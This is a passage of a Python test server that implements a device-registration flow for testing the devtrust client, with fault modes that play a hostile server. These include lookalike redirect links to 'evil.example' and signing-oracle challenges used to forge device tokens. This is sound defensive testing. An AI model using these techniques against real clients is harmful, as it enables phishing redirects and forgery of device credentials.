#!/usr/bin/python3
"""devtrust's reference flow server: an independent implementation of the
server side of ../shared/docs/server-contract.md (section 1 and 2), for tests
and `make demo`. Python standard library + Debian's python3-cryptography + sqlite3.

It runs a REGISTRATION flow over the Flow Execution API:
  1. VIEW credentials (email, password with a LengthValidator),
  2. VIEW email OTP (wrong-code messages, resend),
  3. INTERNAL_PROMPT Device Registration (publicKey, signature, deviceData when
     --device-policy or --require-claim is given; deviceModel optional),
  (--redirect-step: a REDIRECTION to a federated IdP between 1 and 2, resumed with code and state,)
  4. optionally (--terms-step) a VIEW asking to accept terms, which can be declined
     (--terms-signature: a required "Full name" typed to accept),
  5. COMPLETE: only now is the device stored (SQLite).
It checks as the real server does: standard base64 only for publicKey and
signature, SPKI P-256, DER signature over the decoded challenge, ES256
deviceData with a raw 64-byte signature, flat claims, jti replay store, iat
accepted for 5 minutes and at most 30 s in the future. Tokens (deviceData and
device tokens) are READ as leniently as the real server reads them (Nimbus on
Gson's lenient mode: Tests/Interop/lenient_jws.py), so that a token forged from
a signed challenge is accepted here as it would be there; each answer also says
whether the token is strict (canonical base64url, plain JSON), which devtrust's
own tokens must be.

Other endpoints: GET /api/devices, GET /api/outbox (the OTPs "sent"),
GET /api/flow-requests (each continue request of a flow: the step it answered,
its actionId and the names of its inputs, never their values),
GET /api/authorize-records (each GET /oauth2/authorize: its query, its
device_token, when it arrived, what the device check said), GET /test/start
(the page that drives a browser in the extension tests: browser_pages.py),
GET /oauth2/authorize?...&strip=1 with a device_token: a 302 to the same URL without
it (a server that loops), GET /test/redirect?to=URL (a 302 to URL, as a web application's /login
answers), GET /test/go?to=URL (a page that navigates to URL), GET /test/set-cookies (sets cookies strict=1, SameSite=Strict, and
lax=1, SameSite=Lax),
POST|GET /api/device-check (verifies X-Device-Token or ?device_token= like the
server does at sign-in, and says whether it would be accepted).

Fault modes (--fault MODE, applied to the flow response number --fault-at N)
exercise the client against broken servers; see FAULTS below.

Prints "listening on URL" on stdout when ready.
"""
import argparse
import base64
import binascii
import json
import http.cookies
import os
import re
import secrets
import sqlite3
import ssl
import sys
import threading
import time
import uuid
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlparse

from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "Interop"))
import browser_pages  # noqa: E402  (the browser extension tests' pages, beside this file)
import ciba  # noqa: E402  (CIBA poll mode, beside this file)
import lenient_jws  # noqa: E402  (the server's lenient token reading)
import signin  # noqa: E402  (the sign-in side, beside this file)

FLOW_PATH = re.compile(r"^(/t/[^/]+)?/api/server/v1/flow/execute$")
# --clock-offset: the server's clock (its Date headers and its iat checks) runs this many seconds from the host's.
CLOCK_OFFSET = [0.0]


def server_now():
    return time.time() + CLOCK_OFFSET[0]


# Links that read as this server to a lenient parser but resolve elsewhere (RFC 3986).
HOSTILE_LINKS = {
    "links-network-path-elsewhere": lambda port: "//evil.example/oauth2/authn",
    "links-userinfo": lambda port: "http://127.0.0.1:%d@evil.example/oauth2/authn" % port,
    "links-backslash": lambda port: "/\\evil.example/oauth2/authn",
    "links-scheme-relative-http": lambda port: "http:evil.example/oauth2/authn",
}
# Sign-in endpoints in a tenant (/t/{org}/oauth2/...).
TENANT_SIGNIN_PATH = re.compile(r"^(/t/[^/]+)(/oauth2/.+)$")
STANDARD_BASE64 = re.compile(r"^[A-Za-z0-9+/]+={0,2}$")
BASE64URL = re.compile(r"^[A-Za-z0-9_-]*$")
IAT_PAST, IAT_FUTURE = 300, 30
EMAIL_CLAIM = "http://wso2.com/claims/emailaddress"
REDIRECT_STATE = "reference-state-7f3a"

FAULTS = {
    "garbage-body": "200 with a body that is not JSON",
    "html-500": "500 with an HTML page",
    "huge-body": "200 with 5 MiB of JSON",
    "never-answer": "accepts the request and never answers",
    "drop-connection": "closes the connection without an answer",
    "unknown-step-type": "a step of type QUANTUM_PROMPT",
    "webauthn": "a WEBAUTHN step",
    "passkey": "a PASSKEY step",
    "wrong-json-types": "flowId a number, data a list",
    "missing-flow-id": "no flowId",
    "missing-status": "no flowStatus",
    "unknown-required-param": "a device step that also requires tpmQuote",
    "missing-challenge": "a device step without additionalData.challenge",
    "bad-challenge": "a device step whose challenge is not base64url",
    "redirect-http": "302 to a plain-http URL",
    "json-500": "500 with a FE-65000 error body",
    "empty-200": "200 with an empty body",
    "complete-without-device": "COMPLETE before any device step",
    "error-after-device": "the device step is answered with 400 and --error-code (default DR-60001)",
    "error-at-first-continue": "the first continue request is answered with 400 and --error-code",
    "array-body": "200 with a JSON array",
    "deep-json": "200 with JSON nested 10000 levels",
    "redirect-elsewhere": "302 to an https URL on another host",
    "redirect-with-code": "302 to a callback URL whose query carries a code (SECRET-CODE-4711)",
    "redirect-scheme-relative": "302 to //user:SECRET-PASSWORD-4711@elsewhere.example/cb, with a folded Set-Cookie carrying SECRET-FOLDED-4711 and a header with a C1 control",
    "redirect-with-token": "302 to a URL with a password and a fragment that carries a token (SECRET-PASSWORD-4711, SECRET-TOKEN-4711)",
    "slow-body": "the headers, then one byte of the body per second",
    "truncated-body": "Content-Length 200, 20 bytes, then the connection closes",
    "null-flow-id": "flowId null",
    "invalid-utf8": "a JSON string with bytes that are not UTF-8",
    "lone-surrogate": "a JSON string with an unpaired \\ud800 escape",
    "unauthorized-html": "401 with WWW-Authenticate and an HTML page",
    "too-many-requests": "429 with Retry-After and no body",
    "escape-sequences": "400 whose error text holds terminal escape sequences and a carriage return",
    "jws-challenge": "a device step whose challenge is a device token's signing input (a signing oracle)",
    "lenient-jws-challenge": "a device step whose challenge is a signing input only a lenient reader takes (Gson: unquoted names and values)",
    "pairs-jws-challenge": "a device step whose challenge's header is an array of [name, value] pairs (Gson reads it as a map)",
    "short-challenge": "a device step whose challenge is 8 bytes",
    "links-network-path-elsewhere": "app-native: the link is a network-path reference (//host/...) to another host",
    "links-userinfo": "app-native: the link puts this server's address in userinfo before another host",
    "links-backslash": "app-native: the link starts with a backslash (a WHATWG URL parser reads a host after it)",
    "links-scheme-relative-http": "app-native: the link is http:path (same scheme, no authority)",
    "i18n-only-message": "a message with an i18nKey and no message text (flow and app-native answers)",
    "links-elsewhere": "app-native: the authentication link points at https on another host",
    "links-plain-http": "app-native: the authentication link points at plain http on another host",
    "unknown-prompt": "app-native: the only authenticator has promptType QUANTUM_PROMPT and no params",
}


ERROR_MESSAGES = {
    "DR-60001": "Flow context expired", "DR-60002": "Invalid signature", "DR-60003": "User not identified",
    "DR-60004": "Device does not comply with the policy", "DR-60005": "Device data missing", "DM-60002": "Field empty",
    "FE-60008": "Invalid user inputs",
}


def b64url_decode(text):
    if not BASE64URL.match(text):
        raise ValueError("not base64url")
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def strict_b64decode(text):
    """Standard base64, padded, no whitespace, no url-safe characters."""
    if not isinstance(text, str) or not STANDARD_BASE64.match(text) or len(text) % 4 != 0:
        raise ValueError("not standard base64")
    return base64.b64decode(text, validate=True)


class FlowError(Exception):
    def __init__(self, status, code, message, description):
        super().__init__(message)
        self.status, self.code, self.message, self.description = status, code, message, description


class Store:
    """SQLite: devices (only at COMPLETE), the jti replay store, sent OTPs."""

    def __init__(self, path):
        self.lock = threading.Lock()
        self.db = sqlite3.connect(path, check_same_thread=False)
        self.db.executescript("""
            CREATE TABLE IF NOT EXISTS devices (registration_id TEXT PRIMARY KEY, user TEXT, public_key TEXT,
                device_model TEXT, claims TEXT, registered_at INTEGER);
            CREATE TABLE IF NOT EXISTS used_jti (jti TEXT PRIMARY KEY, used_at INTEGER);
            CREATE TABLE IF NOT EXISTS outbox (email TEXT, code TEXT, sent_at INTEGER);
        """)
        self.db.commit()

    def use_jti(self, jti):
        with self.lock:
            try:
                self.db.execute("INSERT INTO used_jti VALUES (?, ?)", (jti, int(time.time())))
                self.db.commit()
                return True
            except sqlite3.IntegrityError:
                return False

    def add_device(self, registration_id, user, public_key, device_model, claims):
        with self.lock:
            self.db.execute("INSERT INTO devices VALUES (?, ?, ?, ?, ?, ?)",
                            (registration_id, user, public_key, device_model, json.dumps(claims), int(time.time())))
            self.db.commit()

    def devices(self):
        with self.lock:
            rows = self.db.execute("SELECT registration_id, user, public_key, device_model, claims, registered_at FROM devices").fetchall()
        return [{"registrationId": r[0], "user": r[1], "publicKey": r[2], "deviceModel": r[3],
                 "claims": json.loads(r[4]) if r[4] else None, "registeredAt": r[5]} for r in rows]

    def device(self, registration_id):
        return next((d for d in self.devices() if d["registrationId"] == registration_id), None)

    def send_otp(self, email, code):
        with self.lock:
            self.db.execute("INSERT INTO outbox VALUES (?, ?, ?)", (email, code, int(time.time())))
            self.db.commit()

    def outbox(self):
        with self.lock:
            rows = self.db.execute("SELECT email, code, sent_at FROM outbox ORDER BY rowid").fetchall()
        return [{"email": r[0], "code": r[1], "sentAt": r[2]} for r in rows]


def load_p256_spki(text):
    try:
        key = serialization.load_der_public_key(strict_b64decode(text))
    except (ValueError, binascii.Error, TypeError):
        raise FlowError(400, "DR-60002", "Invalid public key", "publicKey must be standard base64 of a DER SubjectPublicKeyInfo")
    if not isinstance(key, ec.EllipticCurvePublicKey) or key.curve.name != "secp256r1":
        raise FlowError(400, "DR-60002", "Invalid public key", "publicKey must be an EC P-256 key")
    return key


def is_strict_jws(token):
    """A compact JWS with canonical unpadded base64url parts and plain JSON objects (what devtrust must send)."""
    parts = token.split(".")
    if len(parts) != 3:
        return False
    try:
        decoded = [b64url_decode(part) for part in parts]
        if any(base64.urlsafe_b64encode(d).decode().rstrip("=") != part for d, part in zip(decoded, parts)):
            return False
        return all(isinstance(json.loads(d.decode("utf-8"), parse_constant=_refuse), dict) for d in decoded[:2])
    except (ValueError, binascii.Error, UnicodeDecodeError):
        return False


def _refuse(name):
    raise ValueError(name)


def verify_es256_jws(token, key, store, error_code="DR-60002"):
    """Verifies a compact ES256 JWS as the server does, reading it as leniently
    as Nimbus on Gson; returns (header, claims, strict)."""
    def fail(description):
        raise FlowError(400, error_code, "Invalid device data", description)
    if not isinstance(token, str):
        fail("the token must be a string")
    if token.count(".") < 2:
        fail("not a compact JWS")
    signature = lenient_jws.lenient_b64decode(token.rsplit(".", 1)[1].encode("utf-8"))
    if len(signature) != 64:
        fail("an ES256 signature is 64 bytes r||s, got %d (DER?)" % len(signature))
    try:
        header, claims = lenient_jws.verify_lenient(token, key)
    except lenient_jws.LenientJWSError as error:
        fail(str(error))
    if not isinstance(claims, dict):
        fail("claims must be a JSON object")
    nested = sorted(name for name, value in claims.items() if isinstance(value, (dict, list)))
    if nested:
        raise FlowError(400, "DR-60004", "Device does not comply with the policy",
                        "claims must be flat; nested: " + ", ".join(nested))
    jti, iat = claims.get("jti"), claims.get("iat")
    if not isinstance(jti, str) or not jti:
        fail("jti is missing")
    if not isinstance(iat, int) or isinstance(iat, bool):
        fail("iat is missing or not an integer")
    now = int(server_now())
    if iat < now - IAT_PAST:
        fail("iat is %d s old (more than %d)" % (now - iat, IAT_PAST))
    if iat > now + IAT_FUTURE:
        fail("iat is %d s in the future" % (iat - now))
    if not store.use_jti(jti):
        fail("jti %s was already used" % jti)
    return header, claims, is_strict_jws(token)


class Flow:
    def __init__(self, flow_type, application_id):
        self.id = str(uuid.uuid4())
        self.flow_type = flow_type
        self.application_id = application_id
        self.step = "credentials"
        self.created = time.time()
        self.email = None
        self.otp = None
        self.otp_failures = 0
        self.registration_id = None
        self.challenge = None
        # A hostile server's JWS-shaped challenge: its signature is tried as a token (record_forgery).
        self.forgeable = False
        self.device = None
        self.responses = 0


class FlowServer:
    def __init__(self, options):
        self.options = options
        self.store = Store(options.db)
        self.flows = {}
        self.lock = threading.Lock()
        self.flow_responses = 0
        self.signin_responses = 0
        self.delayed_answers = 0
        self.required_claims = dict(item.split("=", 1) for item in options.require_claim)
        self.forgeries = []
        # Each continue request: the step it answered, its actionId, its inputs' names (what an action sends).
        self.flow_requests = []
        # Every GET /oauth2/authorize as it arrived, for the browser extension's tests.
        self.authorize_records = []
        self.browser_reports = []

    # -- steps ---------------------------------------------------------------

    def view_credentials(self, flow, messages=None):
        components = [
            {"id": "heading", "type": "TYPOGRAPHY", "variant": "H3", "config": {"text": "Create your account"}},
            {"id": "form_1", "type": "FORM", "components": [
                {"id": "email", "type": "INPUT", "variant": "EMAIL",
                 "config": {"identifier": EMAIL_CLAIM, "label": "Email", "required": True, "placeholder": "you@example.com"}},
                {"id": "password", "type": "INPUT", "variant": "PASSWORD",
                 "config": {"identifier": "password", "label": "Password", "required": True,
                            "validations": [{"type": "RULE", "name": "LengthValidator",
                                             "conditions": [{"key": "min.length", "value": "8"}, {"key": "max.length", "value": "64"}]}]}},
                {"id": "submit", "type": "BUTTON", "actionId": "submit-registration", "variant": "PRIMARY", "config": {"text": "Continue"}},
            ]},
        ]
        return self.view(flow, components, [EMAIL_CLAIM, "password"], messages)

    def view_otp(self, flow, messages=None):
        masked = flow.email[0] + "***" + flow.email[flow.email.index("@"):]
        components = [
            {"id": "otp_text", "type": "TYPOGRAPHY", "variant": "BODY1", "config": {"text": "Enter the code we sent to " + masked}},
            {"id": "form_2", "type": "FORM", "components": [
                {"id": "otp", "type": "INPUT", "variant": "OTP",
                 "config": {"identifier": "otp", "label": "Verification code", "required": True,
                            "validations": [{"type": "RULE", "name": "LengthValidator",
                                             "conditions": [{"key": "min.length", "value": "6"}, {"key": "max.length", "value": "6"}]}]}},
                {"id": "verify", "type": "BUTTON", "actionId": "verify-otp", "variant": "PRIMARY", "config": {"text": "Verify"}},
                {"id": "resend", "type": "BUTTON", "actionId": "resend-otp", "variant": "SECONDARY", "config": {"text": "Resend code"}},
            ]},
        ]
        return self.view(flow, components, ["otp"], messages)

    def view_terms(self, flow):
        # --terms-signature: the terms are signed with the user's full name, typed in the form.
        signature = [{"id": "signature", "type": "INPUT", "variant": "TEXT",
                      "config": {"identifier": "signature", "label": "Full name", "required": True}}] if self.options.terms_signature else []
        components = [
            {"id": "terms", "type": "RICH_TEXT", "config": {"text": "<p>Accept the <b>acceptable use policy</b>.</p>"}},
            {"id": "divider", "type": "DIVIDER"},
            {"id": "form_3", "type": "FORM", "components": signature + [
                {"id": "accept", "type": "BUTTON", "actionId": "accept-terms", "variant": "PRIMARY", "config": {"text": "Accept"}},
                {"id": "decline", "type": "BUTTON", "actionId": "decline-terms", "variant": "SECONDARY", "config": {"text": "Decline"}},
            ]},
        ]
        return self.view(flow, components, ["signature"] if self.options.terms_signature else [], None)

    def view(self, flow, components, required, messages):
        data = {"components": components, "requiredParams": required}
        if messages:
            data["messages"] = messages
        return {"flowId": flow.id, "flowType": flow.flow_type, "flowStatus": "INCOMPLETE", "type": "VIEW", "data": data}

    def device_prompt(self, flow):
        flow.registration_id = str(uuid.uuid4())
        flow.challenge = base64.urlsafe_b64encode(secrets.token_bytes(32)).decode().rstrip("=")
        required = ["publicKey", "signature"]
        if self.options.device_policy or self.required_claims:
            required.append("deviceData")
        flow.step = "device"
        return {"flowId": flow.id, "flowType": flow.flow_type, "flowStatus": "INCOMPLETE", "type": "INTERNAL_PROMPT",
                "data": {"requiredParams": required,
                         "additionalData": {"registrationId": flow.registration_id, "challenge": flow.challenge}}}

    def complete(self, flow):
        device = flow.device
        self.store.add_device(flow.registration_id, flow.email, device["publicKey"], device.get("deviceModel"), device.get("claims"))
        flow.step = "done"
        with self.lock:
            self.flows.pop(flow.id, None)
        return {"flowId": flow.id, "flowType": flow.flow_type, "flowStatus": "COMPLETE", "type": "VIEW", "data": {}}

    # -- request handling ----------------------------------------------------

    def execute(self, body):
        if not isinstance(body, dict):
            raise FlowError(400, "FE-60001", "Invalid request", "the body must be a JSON object")
        if "flowId" not in body:
            flow_type = body.get("flowType")
            if flow_type not in ("REGISTRATION", "INVITED_USER_REGISTRATION", "PASSWORD_RECOVERY"):
                raise FlowError(400, "FE-60002", "Invalid flow type", "unknown flowType %r" % (flow_type,))
            flow = Flow(flow_type, body.get("applicationId"))
            with self.lock:
                self.flows[flow.id] = flow
            return self.view_credentials(flow)
        with self.lock:
            flow = self.flows.get(body.get("flowId"))
        if flow is None or time.time() - flow.created > self.options.flow_ttl:
            raise FlowError(400, "DR-60001", "Flow context expired", "no active flow %r; start again" % (body.get("flowId"),))
        inputs = body.get("inputs", {})
        if not isinstance(inputs, dict) or not all(isinstance(k, str) and isinstance(v, str) for k, v in inputs.items()):
            raise FlowError(400, "FE-60008", "Invalid user inputs", "every input value must be a string")
        action = body.get("actionId")
        with self.lock:
            self.flow_requests.append({"step": flow.step, "actionId": action, "inputs": sorted(inputs)})
        if flow.step == "credentials":
            return self.on_credentials(flow, action, inputs)
        if flow.step == "redirect":
            return self.on_redirect(flow, inputs)
        if flow.step == "otp":
            return self.on_otp(flow, action, inputs)
        if flow.step == "device":
            return self.on_device(flow, inputs)
        if flow.step == "terms":
            if action == "accept-terms":
                if self.options.terms_signature and not inputs.get("signature", "").strip():
                    raise FlowError(400, "FE-60008", "Invalid user inputs", "missing: signature")
                return self.complete(flow)
            with self.lock:
                self.flows.pop(flow.id, None)
            raise FlowError(400, "FE-60010", "Registration declined", "the terms were declined; nothing was registered")
        raise FlowError(400, "FE-60001", "Invalid request", "the flow is finished")

    def on_credentials(self, flow, action, inputs):
        if action != "submit-registration":
            raise FlowError(400, "FE-60008", "Invalid user inputs", "unknown actionId %r" % (action,))
        email, password = inputs.get(EMAIL_CLAIM, ""), inputs.get("password", "")
        missing = [name for name, value in ((EMAIL_CLAIM, email), ("password", password)) if not value]
        if missing:
            raise FlowError(400, "FE-60008", "Invalid user inputs", "missing: " + ", ".join(missing))
        if not re.match(r"^[^@\s]+@[^@\s]+\.[^@\s]+$", email) or not 8 <= len(password) <= 64:
            return self.view_credentials(flow, [{"type": "ERROR", "message": "Enter a valid email and a password of 8 to 64 characters.",
                                                 "i18nKey": "registration.invalid.input"}])
        flow.email = email
        if self.options.redirect_step:
            flow.step = "redirect"
            return {"flowId": flow.id, "flowType": flow.flow_type, "flowStatus": "INCOMPLETE", "type": "REDIRECTION",
                    "data": {"redirectURL": self.options.redirect_url or "https://idp.example/authorize?client_id=reference&state=" + REDIRECT_STATE}}
        self.send_otp(flow)
        flow.step = "otp"
        return self.view_otp(flow)

    def on_redirect(self, flow, inputs):
        if inputs.get("state") != REDIRECT_STATE or not inputs.get("code"):
            raise FlowError(400, "FE-60008", "Invalid user inputs", "the callback needs the code and the state that was sent")
        self.send_otp(flow)
        flow.step = "otp"
        return self.view_otp(flow)

    def send_otp(self, flow):
        flow.otp = self.options.otp or "%06d" % secrets.randbelow(1000000)
        self.store.send_otp(flow.email, flow.otp)

    def on_otp(self, flow, action, inputs):
        if action == "resend-otp":
            self.send_otp(flow)
            return self.view_otp(flow, [{"type": "INFO", "message": "We sent a new code.", "i18nKey": "otp.resent"}])
        if action != "verify-otp":
            raise FlowError(400, "FE-60008", "Invalid user inputs", "unknown actionId %r" % (action,))
        if inputs.get("otp") != flow.otp:
            flow.otp_failures += 1
            if flow.otp_failures >= 3:
                with self.lock:
                    self.flows.pop(flow.id, None)
                raise FlowError(400, "OTP-60003", "Too many attempts", "three wrong codes; start again")
            return self.view_otp(flow, [{"type": "ERROR", "message": "The code is incorrect. Try again.", "i18nKey": "otp.invalid"}])
        return self.device_prompt(flow)

    def on_device(self, flow, inputs):
        required = ["publicKey", "signature"] + (["deviceData"] if (self.options.device_policy or self.required_claims) else [])
        for name in ("publicKey", "signature"):
            if not inputs.get(name):
                raise FlowError(400, "DM-60002", "Field empty", "%s is empty" % name)
        if "deviceData" in required and not inputs.get("deviceData"):
            raise FlowError(400, "DR-60005", "Device data missing", "deviceData is required by the device policy")
        key = load_p256_spki(inputs["publicKey"])
        try:
            signature = strict_b64decode(inputs["signature"])
            key.verify(signature, b64url_decode(flow.challenge), ec.ECDSA(hashes.SHA256()))
        except (ValueError, binascii.Error, InvalidSignature):
            raise FlowError(400, "DR-60002", "Invalid signature", "signature must be standard base64 DER ECDSA-SHA256 over the decoded challenge")
        self.record_forgery(flow, key, signature)
        claims = None
        if "deviceData" in required:
            _, claims, _ = verify_es256_jws(inputs["deviceData"], key, self.store)
            failed = [name for name, wanted in self.required_claims.items() if str_claim(claims.get(name)) != wanted]
            if failed:
                raise FlowError(400, "DR-60004", "Device does not comply with the policy", "failed: " + ", ".join(sorted(failed)))
        flow.device = {"publicKey": inputs["publicKey"], "deviceModel": inputs.get("deviceModel"), "claims": claims}
        if self.options.terms_step:
            flow.step = "terms"
            return self.view_terms(flow)
        return self.complete(flow)

    def record_forgery(self, flow, key, der_signature):
        """A hostile server's payoff: the signature over a JWS-shaped challenge,
        turned into a token. Recorded (GET /api/forgeries) when the lenient
        reading accepts it, that is, when the real server would."""
        if not flow.forgeable:
            return
        r, s = decode_dss_signature(der_signature)
        token = b64url_decode(flow.challenge) + b"." + base64.urlsafe_b64encode(r.to_bytes(32, "big") + s.to_bytes(32, "big")).rstrip(b"=")
        try:
            header, claims = lenient_jws.verify_lenient(token, key)
        except lenient_jws.LenientJWSError as error:
            self.forgeries.append({"accepted": False, "reason": str(error)})
            return
        self.forgeries.append({"accepted": True, "header": header, "claims": claims})

    def device_check(self, token):
        """What the server does with a device token at sign-in: never fails the request, records the outcome."""
        if not token:
            return {"accepted": False, "reason": "no device token"}
        try:
            header = lenient_jws.as_gson_map(lenient_jws.parse_lenient_json(lenient_jws.lenient_b64decode(token.split(".")[0].encode("utf-8"))))
            if not isinstance(header, dict):
                return {"accepted": False, "reason": "the header is not a JSON object"}
            device = self.store.device(header.get("deviceId"))
            if device is None:
                return {"accepted": False, "reason": "unknown deviceId %r" % header.get("deviceId")}
            key = serialization.load_der_public_key(base64.b64decode(device["publicKey"]))
            _, claims, strict = verify_es256_jws(token, key, self.store)
            return {"accepted": True, "strict": strict, "deviceId": header["deviceId"], "user": device["user"], "claims": claims}
        except FlowError as error:
            return {"accepted": False, "reason": error.description}
        except (ValueError, binascii.Error, IndexError, AttributeError, TypeError):
            return {"accepted": False, "reason": "malformed device token"}


def str_claim(value):
    if isinstance(value, bool):
        return "true" if value else "false"
    return None if value is None else str(value)


def make_handler(server, signins, cibas):
    class Handler(BaseHTTPRequestHandler):
        def date_time_string(self, timestamp=None):
            # Every answer's Date header tells the server's clock (--clock-offset); with --cached-gets,
            # a GET's answer is what a CDN kept: the Date of when it was fetched, and its Age.
            if timestamp is None and self.command == "GET" and server.options.cached_gets:
                timestamp = server_now() - server.options.cached_gets
            return super().date_time_string(server_now() if timestamp is None else timestamp)

        def end_headers(self):
            if self.command == "GET" and server.options.cached_gets:
                self.send_header("Age", str(server.options.cached_gets))
            super().end_headers()

        protocol_version = "HTTP/1.1"

        def log_message(self, *args):
            if server.options.verbose:
                sys.stderr.write("reference-server: " + (args[0] % args[1:]) + "\n")

        def send_json(self, status, document, headers=None):
            body = json.dumps(document).encode()
            self.send_response(status)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(len(body)))
            for name, value in (headers or {}).items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body)

        def send_headers_only(self, status, headers):
            self.send_response(status)
            for name, value in headers:
                self.send_header(name, value)
            self.send_header("Content-Length", "0")
            self.end_headers()

        def send_raw(self, status, body, content_type):
            self.send_response(status)
            self.send_header("Content-Type", content_type)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self):
            url = urlparse(self.path)
            if url.path in ("/oauth2/token/.well-known/openid-configuration", "/.well-known/openid-configuration") or (
                    server.options.issuer and server.options.issuer.startswith("/")
                    and url.path in (server.options.issuer + "/.well-known/openid-configuration", "/.well-known/openid-configuration" + server.options.issuer)):
                return self.send_json(200, cibas.discovery(signins.discovery()))
            if url.path == "/oauth2/jwks":
                if server.options.id_token_fault == "jwks-404":
                    return self.send_raw(404, b"<html>Not Found</html>", "text/html")
                return self.send_json(200, signins.id_tokens.jwks())
            if url.path == "/oauth2/authorize":
                # A browser sign-in: what the server read from the URL, device token included.
                query = {k: v[0] for k, v in parse_qs(url.query).items()}
                pushed = signins.pushed(query.get("request_uri", "")) if "request_uri" in query else None
                request = pushed or query
                check = server.device_check(request.get("device_token"))
                with server.lock:
                    server.authorize_records.append(browser_pages.authorize_record(url.query, check, self.headers))
                if "strip" in query and "device_token" in query:
                    # A server that takes the device token and sends the browser back to the same
                    # URL without it (the browser extension's loop bound is tested against it).
                    return self.send_headers_only(302, [("Location", url.path + "?" + browser_pages.without_device_token(url.query))])
                if server.options.browser_login:
                    # The browser's session: who is signed in there (a test's stand-in browsers say so by a cookie).
                    cookies = http.cookies.SimpleCookie(self.headers.get("Cookie", ""))
                    user = cookies["reference-user"].value if "reference-user" in cookies else None
                    return self.browser_login(signins.browser_authorize(request, pushed is not None, check, user))
                return self.send_json(200, {"request": request, "pushed": pushed is not None, "deviceCheck": check})
            if url.path == "/api/signin-records":
                return self.send_json(200, signins.records)
            if url.path == "/api/authorize-records":
                with server.lock:
                    return self.send_json(200, list(server.authorize_records), {"Access-Control-Allow-Origin": "*"})
            if url.path == "/test/blank":
                return self.send_raw(200, b"<!DOCTYPE html><title>blank</title>", "text/html")
            if url.path == "/test/redirect":
                # A web application's /login: a 302 to the authorization URL it is given.
                return self.send_headers_only(302, [("Location", parse_qs(url.query).get("to", ["/"])[0])])
            if url.path == "/test/go":
                # A page that navigates to the URL it is given (a cross-site page starting a sign-in).
                return self.send_raw(200, browser_pages.GO_PAGE, "text/html; charset=utf-8")
            if url.path == "/test/set-cookies":
                return self.send_headers_only(204, [("Set-Cookie", "strict=1; Path=/; SameSite=Strict"),
                                                    ("Set-Cookie", "lax=1; Path=/; SameSite=Lax")])
            if url.path == "/test/start":
                return self.send_raw(200, browser_pages.START_PAGE, "text/html; charset=utf-8")
            if url.path == "/test/report":
                with server.lock:
                    server.browser_reports.append(parse_qs(url.query).get("what", [""])[0])
                return self.send_raw(204, b"", "text/plain")
            if url.path == "/api/browser-reports":
                with server.lock:
                    return self.send_json(200, list(server.browser_reports))
            if url.path == "/resource":
                return self.send_json(*signins.resource("GET", self.headers.get("Authorization"), self.headers.get("DPoP")))
            if url.path == "/api/dpop-proofs":
                return self.send_json(200, signins.dpop.proofs if signins.dpop else [])
            if url.path == "/api/dpop-refusals":
                return self.send_json(200, signins.dpop.refusals if signins.dpop else [])
            if url.path == "/api/token-stats":
                return self.send_json(200, signins.stats)
            if url.path == "/api/ciba/requests":
                return self.send_json(200, cibas.list())
            if url.path == "/api/device/polls":
                return self.send_json(200, signins.device_polls())
            if url.path == "/api/devices":
                return self.send_json(200, server.store.devices())
            if url.path == "/api/outbox":
                return self.send_json(200, server.store.outbox())
            if url.path == "/api/flow-requests":
                with server.lock:
                    return self.send_json(200, list(server.flow_requests))
            if url.path == "/api/forgeries":
                return self.send_json(200, server.forgeries)
            if url.path == "/api/device-check":
                token = parse_qs(url.query).get("device_token", [None])[0] or self.headers.get("X-Device-Token")
                return self.send_json(200, server.device_check(token))
            self.send_json(404, {"code": "404", "message": "Not found", "description": self.path, "traceId": None})

        def do_POST(self):
            url = urlparse(self.path)
            length = int(self.headers.get("Content-Length") or 0)
            raw = self.rfile.read(length) if length else b""
            if url.path == "/api/device-check":
                token = parse_qs(url.query).get("device_token", [None])[0] or self.headers.get("X-Device-Token")
                return self.send_json(200, server.device_check(token))
            if url.path == "/resource":
                return self.send_json(*signins.resource("POST", self.headers.get("Authorization"), self.headers.get("DPoP")))
            if url.path == "/oauth2/authorize":
                with server.lock:
                    server.authorize_records.append(browser_pages.authorize_record(url.query, None, self.headers, "POST", raw))
            if url.path not in ("/api/device/approve", "/api/device/deny"):
                self.delay_answer()
            tenant_path = TENANT_SIGNIN_PATH.match(url.path)
            if tenant_path:
                return self.sign_in(tenant_path.group(2), raw, tenant_path.group(1))
            if url.path.startswith("/oauth2/") or url.path.startswith("/api/device/"):
                return self.sign_in(url.path, raw)
            if not FLOW_PATH.match(url.path):
                return self.send_json(404, {"code": "404", "message": "Not found", "description": url.path, "traceId": None})
            with server.lock:
                server.flow_responses += 1
                number = server.flow_responses
            # Faults tied to the device step apply whenever that step comes; the others to response --fault-at.
            conditional = server.options.fault in ("error-after-device", "unknown-required-param", "missing-challenge", "bad-challenge",
                                                   "jws-challenge", "lenient-jws-challenge", "pairs-jws-challenge", "short-challenge")
            fault = server.options.fault if server.options.fault_on == "flow" and (conditional or number == server.options.fault_at) else None
            if fault and self.answer_with_fault(fault, raw):
                return
            try:
                body = json.loads(raw) if raw else None
            except ValueError:
                return self.send_json(400, {"code": "FE-60001", "message": "Invalid request", "description": "the body is not JSON", "traceId": None})
            try:
                response = server.execute(body)
            except FlowError as error:
                return self.send_json(error.status, {"code": error.code, "message": error.message,
                                                     "description": error.description, "traceId": None})
            if fault:
                response = self.corrupt(fault, response)
            self.send_json(200, response)

        def delay_answer(self):
            """--delay-seconds: the first --delay-answers answers to the client's POSTs come that late."""
            with server.lock:
                server.delayed_answers += 1
                late = server.delayed_answers <= server.options.delay_answers
            if late:
                time.sleep(server.options.delay_seconds)

        def sign_in(self, path, raw, tenant=""):
            fault = None
            if path in ("/oauth2/authorize", "/oauth2/authn") and server.options.fault_on == "signin":
                with server.lock:
                    server.signin_responses += 1
                    if server.signin_responses == server.options.fault_at:
                        fault = server.options.fault
                if fault and self.answer_with_fault(fault, raw):
                    return
            try:
                if path == "/oauth2/authorize":
                    status, body = signins.authorize(signin.parse_form(raw), self.headers, tenant)
